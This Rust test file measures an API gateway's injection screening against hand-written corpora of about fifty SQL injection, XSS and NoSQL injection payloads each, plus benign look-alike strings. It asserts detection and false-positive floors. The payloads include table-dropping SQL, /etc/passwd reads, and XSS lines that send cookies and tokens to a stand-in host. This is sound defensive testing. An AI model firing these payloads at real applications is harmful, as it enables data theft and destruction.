//! Detection and false-positive rates on a corpus of attack strings and benign look-alikes.
//! Every entry goes through the full per-request check (parameters, JSON body, keys), exactly
//! as a request would. The corpus is hand-written for this test; the rates say how this
//! screening does on it, not on traffic in general.

use super::tests::{build, req, run};
use super::*;

const SPEC: &str = r##"openapi: 3.1.0
info: {title: t, version: "1"}
x-gateway: {upstream: svc, strict: false}
paths:
  /search:
    get:
      parameters:
        - {name: q, in: query, schema: {type: string}}
      responses: {"200": {description: ok}}
    post:
      requestBody:
        content:
          application/json:
            schema: {type: object}
      responses: {"200": {description: ok}}
"##;

const SQLI: &[&str] = &[
    "1' OR '1'='1",
    "' OR 1=1--",
    "admin'--",
    "' OR 'a'='a",
    "1; DROP TABLE users--",
    "' UNION SELECT username, password FROM users--",
    "1 UNION ALL SELECT NULL,NULL,NULL--",
    "' AND 1=0 UNION SELECT @@version--",
    "1' AND SLEEP(5)--",
    "1'; WAITFOR DELAY '0:0:5'--",
    "' OR ''='",
    "\" OR \"\"=\"",
    "' OR 1=1#",
    "') OR ('1'='1",
    "1) OR (1=1",
    "' or 1=1 limit 1 --",
    "1 AND 1=1",
    "1 AND 1=2",
    "' HAVING 1=1--",
    "' GROUP BY id HAVING 1=1--",
    "' ORDER BY 1--",
    "1 ORDER BY 10--",
    "'; EXEC xp_cmdshell('dir')--",
    "'; SHUTDOWN--",
    "' AND extractvalue(1,concat(0x7e,version()))--",
    "' AND 1=CONVERT(int,@@version)--",
    "1 OR 1=1",
    "-1 OR 2>1",
    "' OR 'x'='x",
    "x' AND email IS NULL; --",
    "' UNION SELECT 1,2,3--",
    "1' ORDER BY 1--+",
    "' AND (SELECT COUNT(*) FROM users) > 0--",
    "admin' #",
    "admin'/*",
    "' or 1=1/*",
    "1;SELECT pg_sleep(5)",
    "'; INSERT INTO users VALUES('hacker','pw')--",
    "'; UPDATE users SET password='x' WHERE '1'='1",
    "1 AND (SELECT SUBSTRING(password,1,1) FROM users WHERE username='admin')='a'",
    "' UNION SELECT table_name FROM information_schema.tables--",
    "1' AND BENCHMARK(5000000,MD5('a'))--",
    "' OR EXISTS(SELECT * FROM users)--",
    "1 OR sleep(5)#",
    "' OR 1 IN (SELECT @@version)--",
    "\"; DROP TABLE orders; --",
    "' UNION ALL SELECT LOAD_FILE('/etc/passwd')--",
    "') UNION SELECT password FROM users WHERE ('a'='a",
    "1' AND '1'='1",
    "' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--",
];

const XSS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<body onload=alert('x')>",
    "<iframe src=\"javascript:alert(1)\">",
    "<a href=\"javascript:alert(1)\">click</a>",
    "\"><script>alert(document.cookie)</script>",
    "'><img src=x onerror=prompt(1)>",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<object data=\"javascript:alert(1)\">",
    "<embed src=\"javascript:alert(1)\">",
    "<marquee onstart=alert(1)>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<img src=\"x\" onerror=\"eval(atob('YWxlcnQoMSk='))\">",
    "<svg><script>alert(1)</script></svg>",
    "<body onpageshow=alert(1)>",
    "<link rel=import href=//evil.example>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<form action=\"javascript:alert(1)\"><input type=submit>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<table background=\"javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<img src=1 onmouseover=alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<svg/onload=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<x onclick=alert(1)>click",
    "<audio src=x onerror=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<keygen autofocus onfocus=alert(1)>",
    "<body background=\"javascript:alert(1)\">",
    "<div onmouseenter=alert(1)>hover</div>",
    "<img src=`x` onerror=alert(1)>",
    "\"onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "<script>document.location='http://evil.example/?c='+document.cookie</script>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<frameset onload=alert(1)>",
    "<applet code=\"javascript:alert(1)\">",
    "<script>fetch('//evil.example/'+localStorage.token)</script>",
    "<img src=x onerror=alert`1`>",
];

/// (how it is sent, payload): `j` a JSON body, `q` a raw query string, `t` a JSON string value.
const NOSQLI: &[(char, &str)] = &[
    (
        'j',
        r#"{"username": {"$ne": null}, "password": {"$ne": null}}"#,
    ),
    ('j', r#"{"username": "admin", "password": {"$gt": ""}}"#),
    (
        'j',
        r#"{"username": {"$regex": "^adm"}, "password": {"$ne": "x"}}"#,
    ),
    ('j', r#"{"username": {"$in": ["admin", "root"]}}"#),
    ('j', r#"{"$where": "this.password.length > 0"}"#),
    ('j', r#"{"username": "admin", "$or": [{}, {"a": "a"}]}"#),
    ('j', r#"{"password": {"$exists": true}}"#),
    ('j', r#"{"age": {"$gte": 0}}"#),
    ('j', r#"{"username": {"$nin": []}}"#),
    ('j', r#"{"$expr": {"$eq": [1, 1]}}"#),
    (
        'j',
        r#"{"username": {"$eq": "admin"}, "password": {"$lt": "~"}}"#,
    ),
    (
        'j',
        r#"{"filter": {"$function": {"body": "function(){return true}", "args": [], "lang": "js"}}}"#,
    ),
    ('j', r#"{"username": {"$not": {"$eq": "x"}}}"#),
    ('j', r#"{"q": {"$text": {"$search": "x"}}}"#),
    ('j', r#"{"items": {"$elemMatch": {"$gt": ""}}}"#),
    ('j', r#"{"$and": [{"a": {"$ne": 1}}]}"#),
    ('j', r#"{"password": {"$regex": ".*"}}"#),
    ('j', r#"{"name": {"$type": 2}}"#),
    ('j', r#"{"$nor": [{"a": 1}]}"#),
    ('j', r#"{"user": {"$lookup": {"from": "secrets"}}}"#),
    ('q', "username[$ne]=x&password[$ne]=x"),
    ('q', "username[$gt]=&password[$gt]="),
    ('q', "user[$regex]=.*"),
    ('q', "login[$in][]=admin"),
    ('q', "password[$exists]=true"),
    ('q', "q[$where]=1"),
    ('q', "id[$nin][0]=1"),
    ('q', "a[$or][0][b]=1"),
    ('q', "username[$eq]=admin&password[$ne]=1"),
    ('q', "filter[$expr]=1"),
    ('t', "'; return true; var x='"),
    ('t', "' || '1'=='1"),
    ('t', "'; while(true){}; '"),
    ('t', "this.password.match(/.*/)"),
    ('t', "'; sleep(5000); '"),
    ('t', "function() { return this.role == 'admin' }"),
    ('t', "1; return db.users.find()"),
    ('t', "' && this.password.match(/^a/)//"),
    ('t', "'; return this.a != 'x'; var d='"),
    ('t', r#"{"$gt": ""}"#),
    ('t', r#"{"$ne": null}"#),
    ('t', r#"{"$where": "sleep(100)"}"#),
    ('t', "'$where': '1 == 1'"),
    ('t', "db.users.drop()"),
    ('t', "'; process.exit(0); '"),
    ('t', "Object.keys(this)[0] == 'admin'"),
    ('t', "return true"),
    ('t', "tojson(this)"),
    ('t', "emit(this.password, 1)"),
    ('t', "\"; return this.username == 'admin'; //"),
    ('t', "sleep(10000)"),
];

const BENIGN: &[&str] = &[
    "O'Brien",
    "O'Reilly Media",
    "Dunkin' Donuts",
    "select a size",
    "Please select a size and color",
    "1 or 2 items",
    "Order 3 or more and save",
    "<3 this",
    "I <3 this product!",
    "5 > 3 and 2 < 4",
    "The \"Classic\" T-shirt",
    "Levi's 501 \"Original Fit\" Jeans",
    "Ben & Jerry's",
    "AT&T",
    "Rock 'n' Roll",
    "Don't forget to drop off the package",
    "Update: delivered to the front desk",
    "Where is my order?",
    "Union Square store pickup",
    "Table for two, please",
    "I'd like to insert a gift note",
    "Delete my old address",
    "\"Hello\", she said",
    "It's 50% off -- today only",
    "Price: $5 off with code SAVE5",
    "C++ for dummies",
    "user@example.com",
    "https://example.com/products?id=42&color=red",
    "Size 10 1/2",
    "The Matrix: Reloaded",
    "café au lait",
    "Zoë's Kitchen",
    "2024-01-01T10:00:00Z",
    "My password is \"correct horse battery staple\"",
    "true or false?",
    "SELECT Comfort mattress",
    "a<b",
    "x = y + 1",
    "Meet me at 5 o'clock",
    "Mother's Day special; free shipping",
    "Item #123-ABC",
    "1-800-FLOWERS",
    "It's a \"must-have\" item",
    "color: red; size: M",
    "while supplies last",
    "function over form",
    "Return policy: 30 days",
    "Terms & Conditions apply",
    "Sale -- 20% off all 'Summer' items",
    "He said 'yes' or 'no'",
    "Bobby Tables (the nickname)",
    "Oh no!!! --- wait",
    "4' 11\" tall",
    "< 18 years old not allowed",
    "Tom's \"Best\" Burgers & Fries",
    "drop-off point: gate 3",
    "We're open 9-5, Mon-Fri",
    "Who's on first?",
];

fn detected(v: &Validation, r: &crate::router::Router, kind: char, payload: &str) -> bool {
    let res = match kind {
        'j' => run(v, r, &req("POST", "/search").json(payload)),
        'q' => run(v, r, &req("GET", &format!("/search?{payload}"))),
        _ => {
            let body = serde_json::json!({ "q": payload }).to_string();
            run(v, r, &req("POST", "/search").json(&body))
        }
    };
    matches!(res, Err(Deny::InjectionBlocked(_)))
}

#[test]
fn detection_and_false_positive_rates() {
    let (v, r, report, _d) = build(SPEC, &[]);
    assert!(report.errors.is_empty(), "{:?}", report.errors);
    let rate = |name: &str, entries: Vec<(char, &'static str)>| {
        let hits = entries
            .iter()
            .filter(|(k, p)| detected(&v, &r, *k, p))
            .count();
        let missed: Vec<&str> = entries
            .iter()
            .filter(|(k, p)| !detected(&v, &r, *k, p))
            .map(|(_, p)| *p)
            .collect();
        let pct = 100.0 * hits as f64 / entries.len() as f64;
        println!(
            "{name}: {hits}/{} detected ({pct:.1}%); missed: {missed:?}",
            entries.len()
        );
        assert!(entries.len() >= 50, "{name}: corpus too small");
        pct
    };
    let sqli = rate("SQLi", SQLI.iter().map(|p| ('t', *p)).collect());
    let xss = rate("XSS", XSS.iter().map(|p| ('t', *p)).collect());
    let nosqli = rate("NoSQLi", NOSQLI.to_vec());
    // Benign look-alikes, both as a query value and as a JSON string value.
    let mut fp = Vec::new();
    for b in BENIGN {
        let q = format!(
            "q={}",
            url::form_urlencoded::byte_serialize(b.as_bytes()).collect::<String>()
        );
        if detected(&v, &r, 'q', &q) || detected(&v, &r, 't', b) {
            fp.push(*b);
        }
    }
    let fp_pct = 100.0 * fp.len() as f64 / BENIGN.len() as f64;
    println!(
        "benign: {}/{} flagged ({fp_pct:.1}%): {fp:?}",
        fp.len(),
        BENIGN.len()
    );
    assert!(BENIGN.len() >= 50);
    // The figures the README reports, as floors: every XSS and NoSQLi entry, 96% of SQLi
    // (48/50), at most one benign look-alike flagged.
    assert_eq!(xss, 100.0, "an XSS entry was missed");
    assert_eq!(nosqli, 100.0, "a NoSQLi entry was missed");
    assert!(sqli >= 96.0, "SQLi detection below 96%");
    assert!(fp.len() <= 1, "more than one benign look-alike flagged");
}
